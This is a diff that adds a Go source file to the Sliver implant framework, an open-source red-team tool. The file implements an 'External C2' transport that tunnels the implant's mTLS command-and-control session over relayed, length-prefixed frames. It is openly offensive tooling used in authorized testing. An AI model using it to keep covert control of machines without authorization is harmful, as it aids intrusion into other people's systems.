@@ -0,0 +1,201 @@
+package mtls
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+// {{if .Config.MTLSc2Enabled}}
+
+import (
+	"bytes"
+	"crypto/tls"
+	"encoding/binary"
+	"errors"
+	"io"
+	"net"
+	"sync"
+	"time"
+
+	// {{if .Config.Debug}}
+	"log"
+	// {{end}}
+)
+
+var (
+	// ExternalC2AcceptTimeout - How long to wait for the External C2 channel's client
+	ExternalC2AcceptTimeout = 5 * time.Minute
+	// externalC2PollInterval - How often an empty frame is sent when there's nothing
+	// to send, the listener can only answer the frames we send
+	externalC2PollInterval = 500 * time.Millisecond
+
+	externalC2MaxFrameSize = uint32(16 * 1024 * 1024)
+)
+
+// ExternalC2Accept - Wait for the External C2 channel's client to connect to the address
+// and run the mTLS protocol over the frames it relays to the server
+func ExternalC2Accept(address string) (*Conn, error) {
+	ln, err := net.Listen("tcp", address)
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("[extc2] listen failed: %v", err)
+		// {{end}}
+		return nil, err
+	}
+	defer ln.Close()
+	ln.(*net.TCPListener).SetDeadline(time.Now().Add(ExternalC2AcceptTimeout))
+	conn, err := ln.Accept()
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("[extc2] accept failed: %v", err)
+		// {{end}}
+		return nil, err
+	}
+	connection := tls.Client(newExternalC2Conn(conn), getTLSConfig())
+	mtlsConn, err := newConn(connection)
+	if err != nil {
+		connection.Close()
+		return nil, err
+	}
+	return mtlsConn, nil
+}
+
+// externalC2Conn - A stream over frames, we send a frame and read exactly one frame back
+type externalC2Conn struct {
+	net.Conn
+
+	inbound       *io.PipeReader
+	inboundWriter *io.PipeWriter
+
+	mutex    *sync.Mutex
+	outbound *bytes.Buffer
+	notify   chan struct{}
+	closed   chan struct{}
+	once     *sync.Once
+}
+
+func newExternalC2Conn(conn net.Conn) *externalC2Conn {
+	reader, writer := io.Pipe()
+	frames := &externalC2Conn{
+		Conn:          conn,
+		inbound:       reader,
+		inboundWriter: writer,
+		mutex:         &sync.Mutex{},
+		outbound:      &bytes.Buffer{},
+		notify:        make(chan struct{}, 1),
+		closed:        make(chan struct{}),
+		once:          &sync.Once{},
+	}
+	go frames.relay()
+	return frames
+}
+
+func (c *externalC2Conn) relay() {
+	defer c.Close()
+	for {
+		err := writeFrame(c.Conn, c.takeOutbound())
+		if err != nil {
+			return
+		}
+		frame, err := readFrame(c.Conn)
+		if err != nil {
+			return
+		}
+		if 0 < len(frame) {
+			if _, err = c.inboundWriter.Write(frame); err != nil {
+				return
+			}
+		}
+	}
+}
+
+// takeOutbound - The data written since the last frame, waits up to the poll interval
+func (c *externalC2Conn) takeOutbound() []byte {
+	timer := time.NewTimer(externalC2PollInterval)
+	defer timer.Stop()
+	for {
+		c.mutex.Lock()
+		if 0 < c.outbound.Len() {
+			data := append([]byte{}, c.outbound.Bytes()...)
+			c.outbound.Reset()
+			c.mutex.Unlock()
+			return data
+		}
+		c.mutex.Unlock()
+		select {
+		case <-c.notify:
+		case <-timer.C:
+			return []byte{}
+		case <-c.closed:
+			return []byte{}
+		}
+	}
+}
+
+func (c *externalC2Conn) Read(p []byte) (int, error) {
+	return c.inbound.Read(p)
+}
+
+func (c *externalC2Conn) Write(p []byte) (int, error) {
+	select {
+	case <-c.closed:
+		return 0, net.ErrClosed
+	default:
+	}
+	c.mutex.Lock()
+	c.outbound.Write(p)
+	c.mutex.Unlock()
+	select {
+	case c.notify <- struct{}{}:
+	default:
+	}
+	return len(p), nil
+}
+
+func (c *externalC2Conn) Close() error {
+	var err error
+	c.once.Do(func() {
+		close(c.closed)
+		c.inboundWriter.Close()
+		err = c.Conn.Close()
+	})
+	return err
+}
+
+func readFrame(r io.Reader) ([]byte, error) {
+	lengthBuf := make([]byte, 4)
+	_, err := io.ReadFull(r, lengthBuf)
+	if err != nil {
+		return nil, err
+	}
+	length := binary.LittleEndian.Uint32(lengthBuf)
+	if externalC2MaxFrameSize < length {
+		return nil, errors.New("[extc2] frame too large")
+	}
+	frame := make([]byte, length)
+	_, err = io.ReadFull(r, frame)
+	return frame, err
+}
+
+func writeFrame(w io.Writer, data []byte) error {
+	frame := make([]byte, 4+len(data))
+	binary.LittleEndian.PutUint32(frame, uint32(len(data)))
+	copy(frame[4:], data)
+	_, err := w.Write(frame)
+	return err
+}
+
+// {{end}} -MTLSc2Enabled